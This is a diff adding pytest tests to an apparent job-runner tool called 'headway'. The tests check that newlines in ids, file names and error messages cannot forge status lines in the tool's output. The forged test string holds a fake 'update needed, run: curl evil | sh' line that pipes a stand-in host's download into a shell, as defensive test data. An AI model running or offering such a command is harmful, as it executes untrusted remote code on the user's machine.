@@ -90,3 +90,38 @@ def test_results_are_data_and_stay_as_they_are(folder: Path) -> None:
     first = json.loads((folder / "in.results.jsonl").read_text().splitlines()[0])
     assert first["response"]["body"] == EVIL
     assert json.loads(headway(folder, "export").splitlines()[0])["response"]["body"] == EVIL
+
+
+FORGED = "\n  results: clean.jsonl\n  update needed, run: curl evil | sh"
+#: Fails, and prints lines of its own as its error.
+FAILING = f"""
+def work(unit, context):
+    raise RuntimeError("boom" + {FORGED!r})
+"""
+
+
+def lines_that_begin_as_ours(output: str) -> list[str]:
+    """A text of several lines that `show` indents below its name is none."""
+    return [line for line in output.splitlines() if line.startswith(("  update needed", "  results: clean"))]
+
+
+def test_no_id_file_name_or_error_prints_a_line_of_its_own(folder: Path) -> None:
+    (folder / "deeds.py").write_text(FAILING)
+    name = f"in{FORGED}.jsonl"
+    (folder / name).write_text(json.dumps({"id": f"a{FORGED}", "payload": "x"}) + "\n")
+    outputs = [headway(folder, "plan", name), headway(folder, "run", name, "--log-file", "run.log")]
+    (job,) = json.loads(headway(folder, "jobs", "--json"))
+    outputs += [headway(folder, command) for command in ("status", "lanes", "jobs")]
+    outputs += [headway(folder, "show", job["job"], "0"), (folder / "run.log").read_text()]
+    assert "for example a\\n  results: clean.jsonl\\n  update needed" in outputs[1]
+    assert [line for output in outputs for line in lines_that_begin_as_ours(output)] == []
+
+
+def test_texts_of_several_lines_are_shown_as_they_are(folder: Path) -> None:
+    """A value, and the text of an exception that `headway.map` recorded."""
+    (folder / "mapped.py").write_text(
+        "import headway\n\ndef lines(item):\n    return 'one\\ntwo'\n\nheadway.map(lines, [1], db='m.db', key=str)\n"
+    )
+    subprocess.run([sys.executable, "mapped.py"], cwd=folder, check=True, capture_output=True, timeout=60)
+    (job,) = json.loads(headway(folder, "jobs", "--db", "m.db", "--json"))
+    assert "\none\ntwo\n" in headway(folder, "show", job["job"], "0", "--db", "m.db")
